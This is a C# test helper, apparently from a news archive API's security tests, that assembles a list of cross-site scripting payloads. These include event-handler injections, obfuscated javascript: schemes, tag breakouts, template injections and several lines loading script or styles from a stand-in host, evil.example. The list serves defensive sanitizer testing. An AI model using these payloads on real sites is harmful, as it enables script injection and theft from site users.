namespace NewsArchive.Api.Tests.Security;

/// <summary>Attempts to get a script into a page: written for these tests, in the ways that are known.</summary>
internal static class XssVectors
{
    private const string Call = "alert(1)";

    private static readonly string[] Events = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onpointerenter", "onwheel", "oncopy", "onscroll"];

    private static readonly string[] Elements = ["img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "select autofocus", "math", "audio src=x", "a href=#"];

    private static readonly string[] Schemes =
    [
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "vbscript:", "data:text/html,<script>", "javascript&colon;", "jav&#x0A;ascript:", "&#106;avascript:",
    ];

    private static readonly string[] Others =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "`><script>alert(1)</script>",
        "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "\" style=\"background:url(javascript:alert(1))", "<style>@import'//evil.example/x.css';</style>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example/x.css>", "<form action=javascript:alert(1)><button>x</button></form>",
        "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xss onclick=alert(1)>x</xss>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "@(alert(1))",
        "<img src=x onerror=alert(1)//", "<<script>alert(1)//<</script>", "<a href=\"https://example.com/\" onclick=alert(1)>x</a>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img/src=x/onerror=alert(1)>", "<svg/onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. Others,
        .. Schemes.Select(scheme => $"<a href=\"{scheme}{Call}\">x</a>"),
        .. Events.Select(name => $"<img src=x {name}={Call}>"),
        .. Elements.SelectMany(element => Events.Take(4).Select(name => $"<{element} {name}={Call}>")),
    ];
}
